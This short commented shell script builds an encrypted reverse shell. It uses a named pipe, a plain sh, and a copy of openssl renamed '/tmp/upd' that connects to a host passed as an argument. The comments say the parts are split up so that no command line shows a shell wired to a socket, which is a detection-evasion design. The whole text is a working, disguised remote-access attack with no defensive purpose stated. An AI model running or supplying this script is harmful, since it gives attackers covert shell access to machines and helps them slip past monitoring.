# A reverse shell from parts: a FIFO, a plain sh, and a renamed copy of the TLS client. No
# command line holds them together and no part is a shell with a socket on its stdio.
cp /usr/bin/openssl /tmp/upd
rm -f /tmp/q; mkfifo /tmp/q
sh </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect "$1" >/tmp/q
